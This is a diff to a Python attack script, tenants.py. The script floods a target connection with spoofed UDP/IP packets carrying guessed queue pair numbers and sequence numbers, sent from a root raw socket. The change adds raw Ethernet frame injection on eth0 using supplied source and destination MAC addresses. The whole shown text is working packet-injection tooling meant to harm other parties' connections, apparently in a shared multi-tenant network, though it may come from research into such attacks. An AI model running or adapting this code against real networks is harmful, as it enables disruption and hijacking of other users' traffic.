@@ -3,8 +3,9 @@
 """Sends the packets that could do most harm to a connection, from a raw socket of root,
 as if the queue pair numbers and PSNs were known.
 
-usage: tenants.py FROM TO QPN PSN COUNT
-FROM: source address of the packets. PSN: a PSN near those in use.
+usage: tenants.py FROM TO QPN PSN COUNT [FROM-MAC TO-MAC]
+FROM: source address of the packets. PSN: a PSN near those in use. With hardware addresses
+the packets are sent as frames out of eth0.
 Prints how many packets the kernel took."""
 import random
 import socket
@@ -28,12 +29,20 @@ def bodies(qpn, psn):
 
 
 def main():
-    source, to, qpn, psn, count = sys.argv[1:]
-    sock = socket.socket(mrc_nobody.family(to), socket.SOCK_RAW, socket.IPPROTO_RAW)
+    source, to, qpn, psn, count = sys.argv[1:6]
+    head, where = b'', (to, 0)
+    if len(sys.argv) > 6:
+        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+        where = ('eth0', 0x0800)
+        head = b''.join(bytes.fromhex(mac.replace(':', ''))
+                        for mac in (sys.argv[7], sys.argv[6])) + b'\x08\x00'
+    else:
+        sock = socket.socket(mrc_nobody.family(to), socket.SOCK_RAW,
+                             socket.IPPROTO_RAW)
     taken = 0
     while taken < int(count):
         for body in bodies(int(qpn), int(psn)):
-            sock.sendto(m.ip_udp(source, to, body), (to, 0))
+            sock.sendto(head + m.ip_udp(source, to, body), where)
             taken += 1
     print(taken)
 
